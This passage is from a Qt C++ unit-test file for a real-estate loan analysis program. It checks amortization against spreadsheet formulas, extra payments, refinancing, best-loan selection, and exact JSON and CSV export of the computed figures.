#include "analysis/analysisexport.h"
#include "analysis/fixednumber.h"
#include "analysis/jsonwriter.h"
#include "core/dealfields.h"
#include "core/localeservices.h"
#include "core/loananalysis.h"
#include "core/measures.h"
#include "core/profit.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QJsonObject>
#include <QTest>

#include <cstring>
#include <random>

#include <cmath>

namespace {

// The payment of a spreadsheet's PMT and the balance after k payments, written out plainly.
double spreadsheetPmt(double amount, double yearlyPercent, double months)
{
    const double r = yearlyPercent / 1200.0;
    return r == 0 ? amount / months : amount * r / (1.0 - std::pow(1.0 + r, -months));
}
double balanceAfter(double amount, double yearlyPercent, double payment, int k)
{
    const double r = yearlyPercent / 1200.0;
    if (r == 0)
        return amount - payment * k;
    const double growth = std::pow(1.0 + r, k);
    return amount * growth - payment * (growth - 1.0) / r;
}

qint64 cents(double x)
{
    return qRound64(x * 100.0);
}

// The building of the examples: 200,000, rent 2,000, escrow 250, fees 100, margin 10 %, the
// first-run assumptions of the holding period.
DealRecord fiveLoans()
{
    DealRecord r;
    forEachStoredField(projectionFields(), [&r](const DealField &field, int loan) {
        field.figure(r, loan).takeNumber(field.firstRunText().toDouble(), QString());
    });
    r.m_purchasePrice.m_value = 200000;
    r.m_rentalIncome.m_value = 2000;
    r.m_escrow.m_value = 250;
    r.m_otherFees.m_value = 100;
    r.m_safetyMargin.m_value = 10;
    const double loans[MAX_LOANS][4] = {
        {20000, 7, 30, 0}, {40000, 6.5, 15, 75}, {200000, 7, 30, 0}, {20000, 0, 30, 0}, {20000, 7, 0, 0}};
    for (int k = 0; k < MAX_LOANS; ++k) {
        r.m_downPayment[k].m_value = loans[k][0];
        r.m_interestRate[k].m_value = loans[k][1];
        r.m_term[k].m_value = loans[k][2];
        r.m_pmi[k].m_value = loans[k][3];
    }
    r.m_lender[0] = QStringLiteral("First, \"Best\" Bank\nBranch 2");
    return r;
}

// RFC 4180 read back: fields split at the separator outside quotes, "" inside quotes is one
// quote; a byte-order mark before the first line is no part of it.
QList<QStringList> parseCsv(const QByteArray &bytes, QChar separator = QLatin1Char(','))
{
    const QString text = QString::fromUtf8(bytes.startsWith("\xEF\xBB\xBF") ? bytes.mid(3) : bytes);
    QList<QStringList> lines(1);
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && text.mid(i + 1, 1) == QLatin1String("\""))
                field += text.at(++i);
            else if (c == QLatin1Char('"'))
                quoted = false;
            else
                field += c;
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == separator) {
            lines.last() << std::exchange(field, QString());
        } else if (c == QLatin1Char('\r') && text.mid(i + 1, 1) == QLatin1String("\n")) {
            lines.last() << std::exchange(field, QString());
            lines.append(QStringList());
            ++i;
        } else {
            field += c;
        }
    }
    lines.removeLast(); // after the last line end
    return lines;
}

} // namespace

class TestAnalysis : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase() { LocaleServices::pinLocale(QStringLiteral("en_US")); }

    // A loan's life against the spreadsheet's formulas: the count of payments, the interest to
    // the cent, the balance after five years, and a schedule whose parts add up.
    void loanLife_data()
    {
        QTest::addColumn<double>("amount");
        QTest::addColumn<double>("rate");
        QTest::addColumn<double>("term");
        QTest::addColumn<int>("payments");
        QTest::newRow("180,000 at 7 % for 30 years") << 180000.0 << 7.0 << 30.0 << 360;
        QTest::newRow("160,000 at 6.5 % for 15 years") << 160000.0 << 6.5 << 15.0 << 180;
        QTest::newRow("without interest") << 180000.0 << 0.0 << 30.0 << 360;
        QTest::newRow("15.5 years") << 100000.0 << 5.0 << 15.5 << 186;
        QTest::newRow("15.4 years, the last payment smaller") << 100000.0 << 5.0 << 15.4 << 185;
        QTest::newRow("half a year") << 6000.0 << 12.0 << 0.5 << 6;
    }
    void loanLife()
    {
        QFETCH(double, amount);
        QFETCH(double, rate);
        QFETCH(double, term);
        QFETCH(int, payments);
        DealRecord record = fiveLoans();
        record.m_downPayment[0].m_value = record.m_purchasePrice.m_value - amount;
        record.m_interestRate[0].m_value = rate;
        record.m_term[0].m_value = term;
        const LoanAnalysis loan = analyze(record).loans[0];

        const double months = 12.0 * term;
        const double pmt = spreadsheetPmt(amount, rate, months);
        QCOMPARE(loan.payments.value, double(payments));
        QCOMPARE(loan.payoffMonth.value, double(payments));
        QCOMPARE(int(loan.schedule.size()), payments);
        // Every payment but the last is the level one; the last clears what is left.
        const double beforeLast = balanceAfter(amount, rate, pmt, payments - 1);
        const double last = beforeLast * (1.0 + rate / 1200.0);
        QCOMPARE(cents(loan.schedule.back().payment), cents(last));
        QVERIFY(last <= pmt + 1e-6);
        QCOMPARE(cents(loan.totalInterest.value), cents(pmt * (payments - 1) + last - amount));
        QCOMPARE(cents(loan.totalPaid.value), cents(pmt * (payments - 1) + last));
        if (payments >= 60) {
            QCOMPARE(cents(loan.balance[1].value), cents(balanceAfter(amount, rate, pmt, 60)));
            QCOMPARE(cents(loan.equity[1].value),
                     cents(record.m_downPayment[0].m_value + amount - balanceAfter(amount, rate, pmt, 60)));
        }
        QCOMPARE(loan.balance[3].value, 0.0);
        QCOMPARE(loan.equity[3].value, record.m_purchasePrice.m_value);

        double principal = 0, interest = 0;
        for (const ScheduleRow &row : loan.schedule) {
            QCOMPARE(row.payment, row.principal + row.interest);
            principal += row.principal;
            interest += row.interest;
        }
        QCOMPARE(loan.schedule.back().balance, 0.0);
        QVERIFY(std::abs(principal - amount) < 1e-6);
        QCOMPARE(interest, loan.totalInterest.value);
        double yearly = 0;
        for (const ScheduleRow &year : yearlySummary(loan.schedule))
            yearly += year.interest;
        QVERIFY(std::abs(yearly - interest) < 1e-6);
        QCOMPARE(int(yearlySummary(loan.schedule).size()), (payments + 11) / 12);
    }

    // The help defines every measure in the words of the window's tool tips.
    void helpDefinesEveryMeasure()
    {
        QFile page(QStringLiteral(ZANT_HELP_DIR "/analysis.html"));
        QVERIFY(page.open(QIODevice::ReadOnly));
        const QString help = QString::fromUtf8(page.readAll());
        const auto defined = [&help](const char *label, const char *definition) {
            const QString entry = QStringLiteral("<dt>%1</dt>\n  <dd>%2</dd>")
                                      .arg(QString::fromUtf8(label).toHtmlEscaped().replace(QStringLiteral("&quot;"), QStringLiteral("\"")),
                                           QString::fromUtf8(definition).toHtmlEscaped().replace(QStringLiteral("&quot;"), QStringLiteral("\"")));
            return help.contains(entry);
        };
        for (const LoanMeasure &m : loanMeasures())
            QVERIFY2(defined(m.label, m.definition), m.label);
        for (const PropertyMeasure &m : propertyMeasures())
            QVERIFY2(defined(m.label, m.definition), m.label);
    }

    void loanRowsStandAtTheirIds()
    {
        const std::vector<LoanMeasure> &rows = loanMeasures();
        QCOMPARE(rows.size(), std::size_t(LoanMeasureId::RateOverHold) + 1);
        for (std::size_t i = 0; i < rows.size(); ++i) {
            QVERIFY2(std::size_t(rows[i].id) == i, rows[i].key);
            QCOMPARE(&loanMeasure(rows[i].id), &rows[i]);
        }
        const std::vector<ProjectionMeasure> &summary = projectionMeasures();
        QCOMPARE(summary.size(), std::size_t(ProjectionMeasureId::CashOnCashAfterRefinance) + 1);
        for (std::size_t i = 0; i < summary.size(); ++i) {
            QVERIFY2(std::size_t(summary[i].id) == i, summary[i].key);
            QCOMPARE(&projectionMeasure(summary[i].id), &summary[i]);
        }
    }
    // An extra payment each month ends the loan when the closed form says and saves the interest
    // it says: months n = NPER(r, payment + extra, amount) rounded up, the last payment what is
    // left, the balance before it taken from the spreadsheet's FV.
    void extraPaymentsShortenTheLoan_data()
    {
        QTest::addColumn<double>("amount");
        QTest::addColumn<double>("rate");
        QTest::addColumn<double>("term");
        QTest::addColumn<double>("extra");
        QTest::newRow("100 on 180,000 at 7 %") << 180000.0 << 7.0 << 30.0 << 100.0;
        QTest::newRow("1,000 on 380,000 at 6.875 %") << 380000.0 << 6.875 << 30.0 << 1000.0;
        QTest::newRow("50 on 90,000 at 3.5 % over 15") << 90000.0 << 3.5 << 15.0 << 50.0;
        QTest::newRow("without interest") << 120000.0 << 0.0 << 10.0 << 250.0;
        QTest::newRow("more than the loan") << 1000.0 << 5.0 << 30.0 << 5000.0;
    }

    void extraPaymentsShortenTheLoan()
    {
        QFETCH(double, amount);
        QFETCH(double, rate);
        QFETCH(double, term);
        QFETCH(double, extra);
        DealRecord record = fiveLoans();
        record.m_downPayment[0].m_value = record.m_purchasePrice.m_value - amount;
        record.m_interestRate[0].m_value = rate;
        record.m_term[0].m_value = term;
        record.m_extraPayment[0].m_value = extra;
        const LoanAnalysis loan = analyze(record).loans[0];

        const double r = rate / 1200.0;
        const double level = spreadsheetPmt(amount, rate, 12.0 * term);
        const double paid = level + extra;
        const double n = r == 0 ? amount / paid : std::log(paid / (paid - r * amount)) / std::log1p(r);
        const int months = int(std::ceil(n - 1e-9));
        const double before = r == 0 ? amount - paid * (months - 1)
                                     : amount * std::pow(1 + r, months - 1) - paid * (std::pow(1 + r, months - 1) - 1) / r;
        const double interest = paid * (months - 1) + before * (1 + r) - amount;
        const double interestWithout = 12.0 * term * level - amount;
        QCOMPARE(loan.payoffMonth.value, double(months));
        QCOMPARE(loan.payments.value, double(months));
        QVERIFY(std::abs(loan.totalInterest.value - interest) < 1e-6 * amount);
        QVERIFY(std::abs(loan.interestSaved.value - (interestWithout - interest)) < 1e-6 * amount);
        QVERIFY(loan.schedule.back().balance == 0);
        // The figures of the report stay those of the loan as offered.
        QVERIFY(std::abs(loan.principalAndInterest.value - level) < 1e-9 * amount);
    }

    // The command line's JSON text of a deal is the text Qt writes for the deal's JSON object.
    void jsonTextReadsBackExactly_data()
    {
        QTest::addColumn<int>("holdYears");
        QTest::addColumn<double>("term5");
        QTest::addColumn<double>("price");
        QTest::newRow("ten years") << 10 << 0.0 << 200000.0;
        QTest::newRow("thirty years, every loan") << 30 << 15.0 << 412345.67;
        QTest::newRow("no projection at all") << 0 << 30.0 << 200000.0;
        QTest::newRow("beyond whole doubles") << 12 << 30.0 << 9.5e15;
        QTest::newRow("a few dollars") << 50 << 30.0 << 1234.56;
    }

    // Every number is the text Qt's JSON gives it: a whole number below 2^53 in digits, any other
    // the shortest that reads back, over numbers of every size, random bit patterns among them.
    void jsonNumbersAreQtsText()
    {
        std::mt19937_64 random(34);
        std::uniform_real_distribution<double> exponent(-30, 30);
        for (int i = 0; i < 200000; ++i) {
            double number = 0;
            if (i % 3 == 0) {
                const std::uint64_t bits = random();
                std::memcpy(&number, &bits, sizeof number);
            } else {
                number = std::ldexp(double(random() >> 11), -52) * std::pow(10.0, std::floor(exponent(random)));
                if (i % 3 == 2)
                    number = std::round(number * 100) / 100; // cents
            }
            if (!std::isfinite(number))
                continue;
            JsonWriter writer(0, true);
            writer.beginArray();
            writer.value(number);
            writer.endArray();
            const bool whole = std::abs(number) < 9007199254740992.0 && number == std::trunc(number);
            const QByteArray expected = whole ? QByteArray::number(qint64(number))
                                              : QByteArray::number(number, 'g', QLocale::FloatingPointShortest);
            QCOMPARE(writer.text(), '[' + expected + ']');
        }
    }

    // A CSV's figure is Qt's text with its decimals, without the sign of a negative that rounds
    // to zero: over numbers of every size, cents, ties exactly between two last digits, and
    // numbers a hair off such a tie.
    void fixedNumbersAreQtsText()
    {
        std::mt19937_64 random(35);
        std::uniform_real_distribution<double> exponent(-12, 20);
        for (int i = 0; i < 300000; ++i) {
            const int decimals = int(random() % 8);
            double number = std::ldexp(double(random() >> 11), -52) * std::pow(10.0, std::floor(exponent(random)));
            switch (i % 5) {
            case 0: { // random bits, NaN and infinities among them
                const std::uint64_t bits = random();
                std::memcpy(&number, &bits, sizeof number);
                break;
            }
            case 1: // a tie: a multiple of a power of two half way between two last digits
                number = (std::round(number * std::pow(10.0, decimals)) + 0.5) / std::pow(10.0, decimals);
                number = std::ldexp(std::round(std::ldexp(number, 20)), -20);
                break;
            case 2:
                number = std::nextafter(std::round(number * 100) / 100, random() % 2 ? 0.0 : 1e300);
                break;
            default:
                break;
            }
            if (i % 2)
                number = -number;
            QByteArray expected = QByteArray::number(number, 'f', decimals);
            if (expected.startsWith('-') && std::all_of(expected.cbegin(), expected.cend(), [](char c) { return !std::isdigit(c) || c == '0'; }))
                expected.remove(0, 1);
            std::string written = "x";
            appendFixed(written, number, decimals);
            QCOMPARE(QByteArray::fromStdString(written), "x" + expected);
        }
    }

    // The JSON text is valid, holds every text a user typed as typed (also one that looks like
    // JSON), and every figure reads back as the very double the engine computed.
    void jsonTextReadsBackExactly()
    {
        QFETCH(int, holdYears);
        QFETCH(double, term5);
        QFETCH(double, price);
        DealRecord record = fiveLoans();
        record.m_purchasePrice.m_value = price;
        record.m_projection.m_holdYears.m_value = holdYears;
        record.m_projection.m_market.m_appreciation.m_value = 3.5;
        record.m_term[4].m_value = term5;
        record.m_lender[1] = QStringLiteral("\"Quoted\" \u0001 Bank é\\");
        record.m_description = QStringLiteral("\u0001years of loan 0\n\t\u001f");
        record.m_lender[2] = QStringLiteral("\"years\": [], \"irr\": 1}");
        const QString file = QStringLiteral("deal \"\u007f\".zant");
        const DealAnalysis deal = analyze(record);
        QJsonParseError error;
        const QJsonObject json = QJsonDocument::fromJson(AnalysisExport::dealJsonText(file, record, deal, 2), &error).object();
        QCOMPARE(error.error, QJsonParseError::NoError);
        QCOMPARE(json["file"].toString(), file);
        QCOMPARE(json["description"].toString(), record.m_description);
        const QJsonArray loans = json["loans"].toArray();
        QCOMPARE(loans.size(), MAX_LOANS);
        const auto same = [](const QJsonValue &value, const Measure &measure) {
            return measure.isKnown() ? value.isDouble() && value.toDouble() == measure.value : value.isNull();
        };
        for (int k = 0; k < MAX_LOANS; ++k) {
            const QJsonObject loan = loans[k].toObject();
            const LoanAnalysis &engine = deal.loans[std::size_t(k)];
            QCOMPARE(loan["lender"].toString(), record.m_lender[k]);
            for (const LoanMeasure &measure : loanMeasures()) {
                if (!measure.typed)
                    QVERIFY2(same(loan[QLatin1String(measure.key)], measure.get(engine)), measure.key);
            }
            QCOMPARE(loan["points_percent"].toDouble(), 100 * engine.points.value);
            QCOMPARE(loan["lender_fees"].toDouble(), engine.lenderFees.value);
            const QJsonObject years = loan["projection"]["years"].toObject();
            QCOMPARE(years["year"].toArray().size(), qsizetype(engine.projection.years.size()));
            for (int t = 0; t < years["year"].toArray().size(); ++t) {
                const ProjectionYear &year = engine.projection.years[std::size_t(t)];
                for (const auto &[key, value] : {std::pair{"cash_flow", year.cashFlow}, {"loan_balance", year.loanBalance},
                                                 {"sale_proceeds", year.saleProceeds}, {"property_value", year.propertyValue}})
                    QCOMPARE(years[QLatin1String(key)][t].toDouble(), value);
                QVERIFY(same(years["irr_if_sold"][t], year.irrIfSold));
            }
            QVERIFY(same(loan["projection"]["irr"], engine.projection.irr));
            QVERIFY(same(loan["scenarios"]["bear"]["npv"], engine.scenarios[0].npv));
        }
    }

    void theExampleOracle()
    {
        DealRecord record = fiveLoans();
        QCOMPARE(cents(analyze(record).loans[0].totalInterest.value), cents(251116.02));
    }

    // The investor's measures of the five offers against plain formulas, and the figures that
    // cannot be computed, each with its reason.
    void measures()
    {
        const DealRecord record = fiveLoans();
        const DealAnalysis deal = analyze(record);
        const double m1 = spreadsheetPmt(180000, 7, 360);
        const LoanAnalysis &one = deal.loans[0];
        QCOMPARE(cents(one.principalAndInterest.value), cents(1197.54));
        QCOMPARE(cents(one.safetyCashFlow.value), cents(252.46));
        // Year 1 of the projection at the first-run assumptions (vacancy 5 %, maintenance 5 %,
        // capital reserve 5 %, closing costs 3 %): rent 24,000 less vacancy 1,200 and operating
        // costs 12 × 350 + 2,400.
        const double noi = 24000 - 1200 - (4200 + 2400);
        QCOMPARE(deal.property.netOperatingIncomeYearly.value, noi);
        QCOMPARE(deal.property.netOperatingIncome.value, noi / 12);
        QCOMPARE(deal.property.capRate.value, noi / 200000);
        QCOMPARE(deal.property.grossRentMultiplier.value, 200000.0 / 24000.0);
        QCOMPARE(deal.property.rentToPrice.value, 0.01);
        const double debtService = 12 * m1;
        QVERIFY(std::abs(one.cashOnCash.value - (noi - debtService) / (20000 + 6000)) < 1e-9);
        QVERIFY(std::abs(one.debtServiceCoverage.value - noi / debtService) < 1e-9);
        QVERIFY(std::abs(one.breakEvenOccupancy.value - (6600 + debtService) / 24000) < 1e-9);
        QVERIFY(std::abs(one.breakEvenRent.value - (4200 + debtService) / (12 * 0.85)) < 1e-9);

        // At the highest offer year 1's cash flow is 0 or more, and a cent more makes it negative.
        const auto yearOneCashFlow = [](DealRecord r) { return analyze(r).loans[0].projection.years.front().cashFlow; };
        DealRecord atOffer = record;
        atOffer.m_purchasePrice.m_value = one.highestOffer.value;
        QVERIFY(yearOneCashFlow(atOffer) >= 0);
        atOffer.m_purchasePrice.m_value += 0.01;
        QVERIFY(yearOneCashFlow(atOffer) < 0);
        // At the break-even rent it is 0.
        DealRecord atRent = record;
        atRent.m_rentalIncome.m_value = one.breakEvenRent.value;
        QVERIFY(std::abs(yearOneCashFlow(atRent)) < 1e-6);

        // Paid in cash: nothing borrowed, no interest, no debt service to cover.
        const LoanAnalysis &cash = deal.loans[2];
        QCOMPARE(cash.payments.value, 0.0);
        QCOMPARE(cash.totalInterest.value, 0.0);
        QCOMPARE(cash.equity[0].value, 200000.0);
        QVERIFY(!cash.debtServiceCoverage.isKnown());
        QCOMPARE(cash.cashOnCash.value, noi / 206000);
        // Without interest: the loan over the months.
        QCOMPARE(deal.loans[3].principalAndInterest.value, 500.0);
        QCOMPARE(deal.loans[3].totalInterest.value, 0.0);
        // Without a term nothing of the loan can be computed, and nothing shows as a number.
        const LoanAnalysis &noTerm = deal.loans[4];
        for (const LoanMeasure &measure : loanMeasures()) {
            if (QByteArray(measure.key) == "loan_amount" || measure.typed)
                continue;
            QVERIFY2(!measure.get(noTerm).isKnown(), measure.key);
            QCOMPARE(formatMeasure(measure.get(noTerm), measure.unit, QString()),
                     QStringLiteral("\u2014"));
            QVERIFY(!measure.get(noTerm).reason.isEmpty());
        }
        // Nor anything after tax: no figure of an offer without a projection reads as 0.
        for (const AfterTaxMeasure &measure : afterTaxMeasures())
            QVERIFY2(!measure.get(noTerm).isKnown(), measure.key);
        DealRecord nothingInvested = record;
        nothingInvested.m_downPayment[0].m_value = 0;
        nothingInvested.m_projection.m_closingCosts.m_value = 0;
        QCOMPARE(analyze(nothingInvested).loans[0].cashOnCash.reason,
                 QStringLiteral("No cash is invested to earn a return on."));

        QCOMPARE(deal.mostSafetyCashFlow, 2);
        QCOMPARE(deal.leastInterest, 2);
        QCOMPARE(formatMeasure(deal.property.capRate, MeasureUnit::Fraction, QString()),
                 QStringLiteral("8.10%"));
        // A computed share shows two decimals, also where a typed rate would keep a third:
        // 1,829.47 ÷ 26,000 = 7.0364 %.
        QCOMPARE(formatMeasure(one.cashOnCash, MeasureUnit::Fraction, QString()),
                 QStringLiteral("7.04%"));
        QCOMPARE(formatMeasure(one.debtServiceCoverage, MeasureUnit::Ratio, QString()),
                 QStringLiteral("1.13"));
    }

    // At a high rate the payment barely covers the interest; the balance still falls month by
    // month to 0 as the closed form L (g^n - g^k) / (g^n - 1) has it, instead of running away.
    void highRatesKeepTheBalance_data()
    {
        QTest::addColumn<double>("rate");
        QTest::newRow("100 %") << 100.0;
        QTest::newRow("1,000 %") << 1000.0;
        QTest::newRow("6,875 %") << 6875.0;
    }
    void highRatesKeepTheBalance()
    {
        QFETCH(double, rate);
        DealRecord record = fiveLoans();
        record.m_interestRate[0].m_value = rate;
        const LoanAnalysis loan = analyze(record).loans[0];
        const double amount = loan.loanAmount.value;
        const double g = 1.0 + rate / 1200.0;
        const double gn = std::pow(g, 360.0);
        QCOMPARE(int(loan.schedule.size()), 360);
        double before = amount;
        for (const ScheduleRow &row : loan.schedule) {
            QVERIFY(row.balance <= before);
            before = row.balance;
        }
        for (int i : {0, 1, 2}) {
            const int k = 12 * MilestoneYears[std::size_t(i)];
            const double expected = amount * (gn - std::pow(g, k)) / (gn - 1.0);
            QVERIFY2(std::abs(loan.balance[std::size_t(i)].value - expected) <= 1e-9 * amount,
                     qPrintable(QString::number(loan.balance[std::size_t(i)].value, 'f', 2)));
        }
    }

    // A down payment above the price is no loan: its report figures stay as the report has
    // them (a negative payment), but it has no other figure and is never the best offer.
    void aDownPaymentAbovePriceIsNoLoan_data()
    {
        QTest::addColumn<double>("down");
        QTest::newRow("a million on 200,000") << 1000000.0;
        QTest::newRow("a cent above the price") << 200000.01;
    }
    void aDownPaymentAbovePriceIsNoLoan()
    {
        QFETCH(double, down);
        DealRecord record = fiveLoans();
        record.m_downPayment[4].m_value = down;
        record.m_term[4].m_value = 30;
        const DealAnalysis deal = analyze(record);
        const LoanAnalysis &loan = deal.loans[4];

        const auto figures = Profit::calculate(record);
        QCOMPARE(loan.loanAmount.value, figures[Profit::LoanAmount][4]);
        QCOMPARE(loan.principalAndInterest.value, figures[Profit::PrincipalAndInterest][4]);
        QCOMPARE(loan.safetyCashFlow.value, figures[Profit::SafetyCashFlow][4]);
        QVERIFY(loan.principalAndInterest.value < 0);
        const QSet<QByteArray> reportFigures = {"loan_amount", "principal_and_interest",
                                                "total_monthly_payment", "monthly_cash_flow",
                                                "safety_cash_flow"};
        for (const LoanMeasure &measure : loanMeasures()) {
            const Measure m = measure.get(loan);
            QCOMPARE(m.isKnown(), reportFigures.contains(measure.key) || measure.typed);
            if (!m.isKnown())
                QCOMPARE(m.reason, QStringLiteral("The down payment is more than the price: there is no loan."));
            const std::vector<int> best = bestLoans(deal, measure);
            QVERIFY2(std::find(best.begin(), best.end(), 4) == best.end(), measure.key);
            QVERIFY2(bestLoan(deal, measure) != 4, measure.key);
        }
        QVERIFY(loan.schedule.empty());
        QCOMPARE(deal.mostSafetyCashFlow, 2);
        const QJsonObject json = AnalysisExport::dealJson("deal.zant", record, deal);
        QCOMPARE(json["most_safety_cash_flow"].toInt(), 3);
        QVERIFY(json["loans"][4]["cash_on_cash"].isNull());
        QVERIFY(json["loans"][4]["debt_service_coverage"].isNull());
    }

    // A payment beyond the range of a double is not a term of 0: every figure that needs it is
    // unknown with the true reason, and nothing unknown is written as a number.
    void aPaymentTooLargeToComputeSaysWhy_data()
    {
        QTest::addColumn<double>("price");
        QTest::addColumn<double>("rate");
        QTest::addColumn<double>("term");
        QTest::addColumn<QString>("reason");
        const QString rate = "The interest rate is too high for this term: the payment is too large to compute.";
        const QString amount = "The loan amount is too large: the payment is too large to compute.";
        QTest::newRow("100 % over 1,000 years") << 200000.0 << 100.0 << 1000.0 << rate;
        QTest::newRow("1,000,000 % over 30 years") << 200000.0 << 1e6 << 30.0 << rate;
        QTest::newRow("a price of 1.7e308") << 1.7e308 << 7.0 << 30.0 << amount;
        QTest::newRow("a price of 1.7e308 without interest") << 1.7e308 << 0.0 << 0.05 << amount;
        QTest::newRow("a term of 0") << 200000.0 << 7.0 << 0.0
                                     << "The loan has no monthly payment: its term is 0 years.";
    }
    void aPaymentTooLargeToComputeSaysWhy()
    {
        QFETCH(double, price);
        QFETCH(double, rate);
        QFETCH(double, term);
        QFETCH(QString, reason);
        DealRecord record = fiveLoans();
        record.m_purchasePrice.m_value = price;
        record.m_interestRate[0].m_value = rate;
        record.m_term[0].m_value = term;
        const DealAnalysis deal = analyze(record);
        const LoanAnalysis &loan = deal.loans[0];
        using M = LoanMeasureId;
        for (M id : {M::PrincipalAndInterest, M::TotalMonthlyPayment, M::MonthlyCashFlow,
                     M::SafetyCashFlow, M::TotalInterest, M::Balance1Year, M::CashOnCash,
                     M::DebtServiceCoverage, M::HighestOffer}) {
            const LoanMeasure &measure = loanMeasure(id);
            QVERIFY2(!measure.get(loan).isKnown(), measure.key);
            QCOMPARE(measure.get(loan).reason, reason);
        }
        for (const LoanMeasure &measure : loanMeasures())
            QVERIFY2(!measure.get(loan).isKnown() || std::isfinite(measure.get(loan).value), measure.key);
        const QByteArray json = AnalysisExport::dealsJson({AnalysisExport::dealJsonText("deal.zant", record, deal, 2)});
        QVERIFY(!QJsonDocument::fromJson(json).isNull());
        const QByteArray csv = AnalysisExport::dealsCsvHeader() + AnalysisExport::dealCsvLines("deal.zant", record, deal);
        // As a word: "maintenance" holds the letters of one.
        static const QRegularExpression bad(QStringLiteral("\\b(nan|inf)"), QRegularExpression::CaseInsensitiveOption);
        QVERIFY2(!QString::fromUtf8(json).contains(bad), json.constData());
        QVERIFY(!QString::fromUtf8(csv).contains(bad));
    }

    // One rule for the best loan in the window and the files: none stands out where every loan
    // that can be compared shares the best value; otherwise the lowest number of those that do.
    void bestLoanRule_data()
    {
        QTest::addColumn<QList<double>>("downPayments"); // of loans 1 to 5; -1: a term of 0
        QTest::addColumn<int>("mostSafetyCashFlow");     // 1 to 5, 0 for none
        QTest::addColumn<int>("leastInterest");
        QTest::newRow("five alike") << QList<double>{20000, 20000, 20000, 20000, 20000} << 0 << 0;
        QTest::newRow("two share the best") << QList<double>{20000, 50000, 20000, 50000, 20000} << 2 << 2;
        QTest::newRow("one stands out") << QList<double>{20000, 20000, 20000, 20000, 60000} << 5 << 5;
        QTest::newRow("the others cannot be computed") << QList<double>{-1, -1, 20000, -1, -1} << 3 << 3;
        QTest::newRow("alike but for one that is no loan")
            << QList<double>{20000, 20000, 20000, 20000, 900000} << 0 << 0;
        QTest::newRow("none can be computed") << QList<double>{-1, -1, -1, -1, -1} << 0 << 0;
    }
    void bestLoanRule()
    {
        QFETCH(QList<double>, downPayments);
        QFETCH(int, mostSafetyCashFlow);
        QFETCH(int, leastInterest);
        DealRecord record = fiveLoans();
        for (int k = 0; k < MAX_LOANS; ++k) {
            record.m_downPayment[k].m_value = downPayments[k] < 0 ? 20000 : downPayments[k];
            record.m_interestRate[k].m_value = 7;
            record.m_term[k].m_value = downPayments[k] < 0 ? 0 : 30;
            record.m_pmi[k].m_value = 0;
        }
        // Offers alike the first run's are compared here because the user says so.
        record.m_compare.fill(true);
        const DealAnalysis deal = analyze(record);
        QCOMPARE(deal.mostSafetyCashFlow + 1, mostSafetyCashFlow);
        QCOMPARE(deal.leastInterest + 1, leastInterest);
        QCOMPARE(bestLoan(deal, loanMeasure(LoanMeasureId::SafetyCashFlow)) + 1, mostSafetyCashFlow);
        QCOMPARE(bestLoan(deal, loanMeasure(LoanMeasureId::TotalInterest)) + 1, leastInterest);
        // The window marks every loan that shares the best value, the first of them named in
        // the files.
        const std::vector<int> marked = bestLoans(deal, loanMeasure(LoanMeasureId::SafetyCashFlow));
        QCOMPARE(marked.empty(), mostSafetyCashFlow == 0);
        if (!marked.empty())
            QCOMPARE(marked.front() + 1, mostSafetyCashFlow);
        const QJsonObject json = AnalysisExport::dealJson("deal.zant", record, deal);
        QCOMPARE(json["most_safety_cash_flow"].isNull(), mostSafetyCashFlow == 0);
        QCOMPARE(json["least_interest"].toInt(), leastInterest);
    }

    // Two different offers differ in every row that compares them; the totals that claim to be
    // totals hold the down payment; a purchase in cash has no highest offer.
    // A refinance at 75 % of a value that has grown returns cash in its year; the returns, the
    // scenarios and the price to offer follow it (at the price the IRR still reaches the target,
    // a cent more misses), and the year before it is the old loan's.
    void refinanceIsFollowedEverywhere()
    {
        DealRecord record = fiveLoans();
        record.m_projection.m_market.m_appreciation.m_value = 5;
        const DealAnalysis plain = analyze(record);
        record.m_projection.m_refinanceYear.m_value = 5;
        const DealAnalysis refinanced = analyze(record);
        const Projection &before = plain.loans[0].projection, &after = refinanced.loans[0].projection;
        QVERIFY(after.refinance.made);
        const double value = 200000 * std::pow(1.05, 5);
        QCOMPARE(after.refinance.newLoanAmount.value, 0.75 * value);
        QCOMPARE(after.years[4].refinanceCashOut,
                 0.75 * value * (1 - 0.02) - before.years[4].loanBalance);
        QVERIFY(after.years[4].refinanceCashOut > 0);
        QCOMPARE(after.years[4].loanBalance, before.years[4].loanBalance);
        QVERIFY(after.years[5].loanBalance > before.years[5].loanBalance);
        QVERIFY(after.years[5].pmi == 0);
        QVERIFY(after.irr.value != before.irr.value);
        QVERIFY(refinanced.loans[0].scenarios[0].irr.value != plain.loans[0].scenarios[0].irr.value);
        const Measure price = refinanced.loans[0].priceToOffer;
        QVERIFY(price.isKnown() && price.value != plain.loans[0].priceToOffer.value);
        const auto irrAt = [&](double p) {
            ProjectionInputs in = inputsOf(record, 0);
            in.price = p;
            return project(in, refinanced.assumptions).irr;
        };
        QVERIFY(irrAt(price.value).value >= refinanced.assumptions.targetIrr);
        QVERIFY(irrAt(price.value + 0.01).value < refinanced.assumptions.targetIrr);
        // Sold in the year of the refinance, the deal never had one: its returns are the plain ones.
        QCOMPARE(after.years[4].irrIfSold.value, before.years[4].irrIfSold.value);
    }

    void rowsTellOffersApart()
    {
        DealRecord record = fiveLoans();
        // The first offer buys its rate down with a point; both charge fees.
        record.m_points[0].m_value = 1;
        record.m_lenderFees[0].m_value = 1500;
        record.m_lenderFees[1].m_value = 900;
        const DealAnalysis deal = analyze(record);
        for (const LoanMeasure &measure : loanMeasures()) {
            if (measure.id == LoanMeasureId::InterestSaved)
                continue; // nothing saved without extra payments (extraPaymentsShortenTheLoan)
            const Measure one = measure.get(deal.loans[0]);
            const Measure two = measure.get(deal.loans[1]);
            QVERIFY2(one.isKnown() && two.isKnown() && one.value != two.value, measure.key);
        }
        const auto row = [](const char *label) {
            for (const LoanMeasure &measure : loanMeasures()) {
                if (QByteArray(measure.label) == label)
                    return &measure;
            }
            return static_cast<const LoanMeasure *>(nullptr);
        };
        QVERIFY(row("Total of Payments"));
        // The payments alone are no total: the cash purchase pays none and is not the best.
        QCOMPARE(bestLoan(deal, *row("Total of Payments")), -1);
        const LoanMeasure *cost = row("Total Cost");
        QVERIFY(cost);
